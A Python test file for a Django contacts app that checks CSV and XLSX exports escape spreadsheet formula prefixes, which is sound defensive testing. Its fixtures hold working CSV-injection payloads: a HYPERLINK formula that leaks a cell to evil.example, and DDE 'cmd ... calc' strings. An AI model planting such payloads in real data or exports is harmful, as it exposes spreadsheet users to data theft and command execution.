"""Formula (CSV) injection: every spreadsheet export escapes cells that a spreadsheet would run.

OWASP "CSV Injection" and ASVS 5.0 1.2.10: a cell starting with = + - @ tab CR (and NUL) is
prefixed with a single quote; LF and the fullwidth forms of = + - @ are treated the same.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.contrib.auth.models import User
from django.test import Client
from openpyxl import load_workbook

from contacts.models import Contact
from core.testing.scores import score_set
from core.utils import spreadsheet_safe

pytestmark = pytest.mark.django_db

# Field -> a value a spreadsheet would run (or, for attributes, a JSON object holding one).
EVIL = {
    "first_name": '==HYPERLINK("http://evil.example/?"&B2,"Open")',
    "last_name": "+1+cmd|' /C calc'!A0",
    "company": "-2+3",
    "job_title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "\t=1+1",
    "consent_source": "\r=1+1",
}
MORE_EVIL = {"first_name": "\n=1+1", "last_name": "\uff1d1+1", "company": "\uff0b1", "job_title": "\uff20SUM(A1)",
             "phone": "\uff0d1"}
FIELDS = ["email", *EVIL, "attributes"]


@pytest.fixture
def marketer(role_users: dict[str, User]) -> Client:
    client = Client()
    client.force_login(role_users["marketer"])
    return client


@pytest.fixture
def contacts() -> None:
    Contact.objects.create(email="evil@example.com", attributes={"note": "=1+1"}, **EVIL)
    Contact.objects.create(email="evil2@example.com", **MORE_EVIL)


def export(client: Client, fmt: str) -> bytes:
    page = client.get("/admin/contacts/contact/export/").content.decode()
    match = re.search(rf'<option value="(\d+)"[^>]*>\s*{fmt}\s*</option>', page)
    assert match, f"{fmt} is offered"
    response = client.post("/admin/contacts/contact/export/", {
        "format": match.group(1), "export_items": [], "resource": "0",
        **{f"contactresource_{name}": "on" for name in FIELDS}})
    assert response.status_code == 200, response.content[:1000]
    return response.content


def assert_escaped(rows: list[dict[str, str]], *, xml: bool = False) -> None:
    by_email = {row["email"]: row for row in rows}
    evil, evil2 = by_email["evil@example.com"], by_email["evil2@example.com"]
    for row, values in ((evil, EVIL), (evil2, MORE_EVIL)):
        for name, value in values.items():
            # XLSX is XML, whose parsers read a CR as LF: the cell still starts with the quote.
            assert row[name] == "'" + (value.replace("\r", "\n") if xml else value), name
    assert evil["attributes"].startswith("{")  # a JSON object: the formula inside is not at the start


def test_the_admin_csv_export_escapes_every_formula_prefix(marketer: Client, contacts: None) -> None:
    rows = list(csv.DictReader(io.StringIO(export(marketer, "csv").decode(), newline="")))
    assert_escaped(rows)


def test_the_admin_xlsx_export_escapes_every_formula_prefix(marketer: Client, contacts: None) -> None:
    sheet = load_workbook(io.BytesIO(export(marketer, "xlsx"))).active
    assert sheet is not None
    header, *body = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert header == FIELDS
    rows = [{name: "" if value is None else str(value) for name, value in zip(header, row, strict=True)}
            for row in body]
    assert_escaped(rows, xml=True)
    # No cell is stored as a formula (openpyxl reads a cell whose text starts with "=" as one).
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_lead_export_uses_the_same_escape(role_users: dict[str, User]) -> None:
    lead = Contact.objects.create(email="lead@example.com", first_name="\uff1d1+1", company="\n=1+1")
    score_set(lead, -5, "")
    client = Client()
    client.force_login(role_users["sales"])
    response = client.get("/leads/export.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))  # type: ignore[attr-defined]
    assert (rows[0]["first_name"], rows[0]["company"], rows[0]["score"]) == ("'\uff1d1+1", "'\n=1+1", "-5")


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "\0=1",
                                   "\uff1d1", "\uff0b1", "\uff0d1", "\uff20A1"])
def test_spreadsheet_safe_prefixes_every_formula_start(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize(("value", "expected"), [(None, ""), (-5, "-5"), (2.5, "2.5"), ("Acme", "Acme"),
                                                 ("a=b", "a=b"), ("'=1", "'=1")])
def test_spreadsheet_safe_leaves_numbers_and_plain_text(value: object, expected: str) -> None:
    assert spreadsheet_safe(value) == expected
